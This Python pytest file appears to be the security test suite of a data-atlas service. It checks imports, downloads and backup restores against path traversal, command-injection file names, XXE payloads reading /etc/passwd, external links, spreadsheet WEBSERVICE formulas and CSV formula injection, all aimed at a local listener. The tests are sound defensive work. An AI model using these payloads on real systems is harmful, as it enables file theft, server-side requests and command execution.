"""Files in and out: names lead nowhere, nothing that is named is fetched, no cell is run."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest

from data.backups import making, manifest, restoring
from data.backups.manifest import BackupError
from data.warehouse import open_warehouse
from tests.attacks.poisoned import FORMULA, HOSTILE, MARK, Attacked
from tests.attacks.raw import Raw, ask
from tests.data.imports import files
from tests.kept import own_copy
from tests.rooms import ROOT

ROWS = [
    ["Tên xã", "Kỳ", "Số tổ công nghệ số cộng đồng", "Ghi chú", HOSTILE],
    ["Xã Nga My", "10/2026", "5", FORMULA, "x"],
    [HOSTILE, "10/2026", "6", HOSTILE, "=1+1"],
]
NAMES = (
    *(
        "../../../tmp/x.csv",
        "..\\..\\x.csv",
        "/etc/cron.d/x",
        "C:\\x.csv",
        "a\0b.csv",
        "\r\nX-Bad: 1",
    ),
    *(f"{HOSTILE}.csv", "a" * 5000, ".", "..", "con.csv", "\u202ecsv.exe", "$(id).csv", "|id"),
)
DANGEROUS = re.compile(r"(^\s*|[;,\t\r\n])[=+\-@]")


@pytest.fixture(scope="module")
def heard() -> Iterator[tuple[str, list[str]]]:
    """A server at this machine, and what was asked of it: nothing ever should be."""
    asked: list[str] = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            """Nothing is said on the screen."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    thread.join()


def send(target: Attacked, path: str, name: str, content: bytes) -> Raw:
    key = {"X-Atlas-Token": target.key, "X-Atlas-File": quote(name)}
    return ask(target, path, "POST", key, content or b" ", timeout=60)


def lying(target: Attacked) -> set[str]:
    """All files of the data folder, beside it, and of the program."""
    passing = {"__pycache__", "layers"}  # what Python and the map keep for themselves
    near = [file for file in target.data.parent.rglob("*") if not passing & {*file.parts}]
    ours = [file for folder in ("api", "data", "geo") for file in (ROOT / folder).rglob("*")]
    program = [file for file in ours if file.suffix != ".pyc"]
    return {str(file) for file in (*near, *program) if not file.name.startswith("access.sqlite")}


def test_no_name_of_a_file_leads_anywhere(target: Attacked) -> None:
    text = files.delimited(ROWS[:2], ";").encode()
    before = lying(target)
    borders = "/api/boundaries?vintage=2025&level=province&check=1"
    for name in NAMES:
        paths = [f"/api/imports?dry=1&source={quote(name)}"]
        if name in NAMES[:2]:  # these take a second each
            paths.append(f"{borders}&title={quote(name)}")
        for path in paths:
            found = send(target, path, name, text if MARK in name else b"x")
            assert (found.status, found.kind) == (200, "application/json"), (name, found.body[:200])
            assert not found.header("x-bad")
            assert "state" in json.loads(found.body)
    assert lying(target) == before


@pytest.mark.parametrize("path", ["/api/imports", "/api/boundaries", "/api/boundaries/undo"])
def test_no_wish_is_an_error_of_the_server(target: Attacked, path: str) -> None:
    known = ("vintage", "level", "title", "dated", "check", "language", "kind", "period", "source")
    for name in (*known, "decimal", "partly", "layer", "x", HOSTILE):
        for value in (HOSTILE, "\0", "9" * 400, "../x", "2026-99-99"):
            asked = f"{path}?{quote(name)}={quote(value)}"
            found = send(target, asked, "a.csv", b"x")
            assert found.status in (200, 400), (asked, found.body[:200])
            assert found.kind == "application/json"


def reaching(url: str) -> list[tuple[str, str, bytes]]:
    """Files of each kind that name an address: path, file name, content."""
    results, borders = "/api/imports?dry=1", "/api/boundaries?vintage=2025&level=province&check=1"
    external = f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{url}/dtd"> %e; <!ENTITY f SYSTEM "file:///etc/passwd">]>'
    parts = {
        "xl/workbook.xml": f'<?xml version="1.0"?>{external}<workbook>&f;</workbook>',
        "xl/worksheets/sheet1.xml": f"{external}<worksheet>&f;</worksheet>",
        "[Content_Types].xml": f"{external}<Types/>",
        "xl/externalLinks/externalLink1.xml": f'<externalLink r:id="{url}/link"/>',
    }
    linked = [ROWS[0], ["Xã Nga My", "10/2026", f'=WEBSERVICE("{url}/cell")', url, url]]
    point = {"type": "Point", "coordinates": [105, 21]}
    collection = {
        "type": "FeatureCollection",
        "crs": {"type": "link", "properties": {"href": f"{url}/crs", "type": "proj4"}},
        "features": [{"type": "Feature", "properties": {"ma": url}, "geometry": point}],
    }
    kml = f"<kml><NetworkLink><Link><href>{url}/kml</href></Link></NetworkLink></kml>"
    vrt = (
        f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>/vsicurl/{url}/vrt'
        "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
    )
    gml = f'<gml:FeatureCollection xmlns:gml="g" xsi:schemaLocation="{url}/x {url}/gml.xsd"/>'
    # Names that GDAL would follow, were they its.
    boundary = [("a.geojson", json.dumps(collection)), (f"/vsicurl/{url}/name", kml)]
    boundary += [("a.vrt", vrt), (f"WFS:{url}/wfs", gml)]
    return [
        (results, "a.csv", files.delimited(linked, ";").encode()),
        (results, "a.xlsx", files.xlsx(linked)),
        (results, "xxe.xlsx", files.zipped(parts)),
        (results, "a.xml", (external + "<a>&f;</a>").encode()),
        (results, "a.html", f'<table><tr><td><img src="{url}/html"></td></tr></table>'.encode()),
        (f"{results}&source={quote(url)}", f"{url}/name.csv", files.delimited(linked).encode()),
        *((borders, name, text.encode()) for name, text in boundary),
        (f"{borders}&title={quote(url)}", "v.zip", files.zipped({"a.vrt": vrt, "a.shp": vrt})),
    ]


def test_nothing_that_a_file_names_is_fetched_or_read(
    target: Attacked, heard: tuple[str, list[str]]
) -> None:
    url, asked = heard
    for path, name, content in reaching(url):
        found = send(target, path, name, content)
        assert found.status == 200, (name, found.body[:200])
        assert b"root:" not in found.body, name
    assert asked == []
    assert target.calls_elsewhere() == []


def test_no_cell_of_a_csv_that_is_taken_away_begins_a_formula(target: Attacked) -> None:
    for path in (
        *("/api/downloads?format=csv&data=demo", "/api/downloads?format=csv"),
        "/api/downloads?format=csv&data=demo&separator=semicolon",
        *("/api/v1/sources?format=csv", "/api/v1/areas?format=csv&limit=2000"),
    ):
        text = ask(target, path).body.decode("utf-8-sig")
        assert "javascript:" in text or MARK in text, path  # it holds what is hostile
        sign = ";" if "semicolon" in path else ","
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sign))
        bad = [cell for row in rows for cell in row if DANGEROUS.search(cell) and not _number(cell)]
        assert bad == [], (path, bad[:3])


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+([.,]\d+)?(e[+-]\d+)?", cell) is not None


def test_no_cell_of_a_workbook_that_is_taken_away_is_a_formula(target: Attacked) -> None:
    content = ask(target, "/api/downloads?format=xlsx&data=demo").body
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert any(MARK in str(cell.value) for cell in cells)
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert not [name for name in parts.namelist() if "external" in name or "vba" in name]


NAMED = ("../x", "boundaries/../../x", "/etc/x", "boundaries/..\\x", "C:x", "boundaries/\0")


def test_a_backup_of_somebody_else_writes_nowhere_else(tmp_path: Path, released_file: Path) -> None:
    opened = open_warehouse(own_copy(released_file, tmp_path / "data" / "atlas.duckdb"))
    backup = making.back_up(opened)
    opened.close()
    about = backup.folder / manifest.ABOUT
    true = about.read_text(encoding="utf-8")
    (backup.folder / manifest.BOUNDARIES).mkdir(exist_ok=True)
    secret = backup.folder.parent / "x"
    secret.write_text("x", encoding="utf-8")
    before = {file for file in tmp_path.rglob("*") if file.is_file()}
    for name in NAMED:
        said = json.loads(true)
        said["files"][name] = {"size": 1, "sha256": manifest.sha256_of(secret)}
        about.write_text(json.dumps(said), encoding="utf-8")
        with pytest.raises(BackupError) as error:
            restoring.restore(backup.folder, tmp_path / "data" / "atlas.duckdb")
        assert error.value.code == "damaged"
        assert {file for file in tmp_path.rglob("*") if file.is_file()} == before
